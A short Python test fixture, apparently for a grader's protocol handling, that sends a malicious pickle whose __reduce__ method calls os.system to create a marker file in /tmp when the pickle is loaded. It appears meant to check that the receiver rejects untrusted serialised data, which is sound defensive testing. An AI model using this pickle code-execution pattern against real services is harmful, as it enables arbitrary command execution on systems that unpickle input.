# /// attack
# title = "Answers with a pickle that would run a command where it is read"
# endings = ["protocol"]
# ///
import os

from grader.wire.frames import HEADER
from grader.wire.values import encode


def send(payload):
    framed = HEADER.pack(len(payload)) + payload
    while framed:
        framed = framed[os.write(3, framed):]



import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-@TOKEN@-pickle",)


def attack(*arguments, **keywords):
    send(pickle.dumps(Bomb()))
    return 1.0
